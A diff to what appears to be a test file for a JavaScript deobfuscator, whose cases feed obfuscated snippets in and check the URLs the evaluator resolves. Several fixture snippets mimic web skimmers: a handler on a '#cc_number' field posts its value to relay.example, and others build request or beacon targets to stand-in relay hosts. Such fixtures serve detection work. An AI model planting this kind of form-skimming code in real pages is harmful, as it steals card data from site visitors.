@@ -15,11 +15,11 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: ['fetch("https://stats.example-cdn.net/c.php"'],
   },
   {
-    name: "a method reads its object's constant through this where it is assigned",
-    source: `var H = { to: ['https:', '', 'hook.example-relay.net', 'c.php'].join('/'),
-      post: function (d) { var f = document.createElement('form'); f.action = this.to; f.submit() } }
-      document.addEventListener('click', function () { H.post(1) })`,
-    has: ['f.action = "https://hook.example-relay.net/c.php"'],
+    name: "a bare this.k is not written out: a method handed out as a handler runs with another this",
+    source: `var S = { value: '', send: function () { fetch('https://relay.example/c', { method: 'POST', body: this.value }) } }
+      document.querySelector('#cc_number').onchange = S.send`,
+    has: [],
+    not: ['body: ""'],
   },
   {
     name: 'Object.keys lists integer keys first, ascending; sort takes a comparator or sorts as text',
@@ -30,6 +30,12 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
       var d = Object.values(seg).join('') + Object.entries({ k: 'v' }).map(function (e) { return e.join('=') })[0]
       fetch('https://x.example/' + a + b + c + d)`,
     has: ['fetch("https://x.example/abcd!z32101-10-9123abcd!k=v")'],
+  },
+  {
+    name: "an array's named members are no part of its Object.keys, values or entries as the evaluator reads them",
+    source: `var a = ['https://']; a.h = 'relay.example/c'; navigator.sendBeacon(Object.values(a).join(''), 1)`,
+    has: [],
+    not: ['sendBeacon("https://"'],
   },
   {
     name: 'a comparator that cannot be worked out leaves the sort alone',
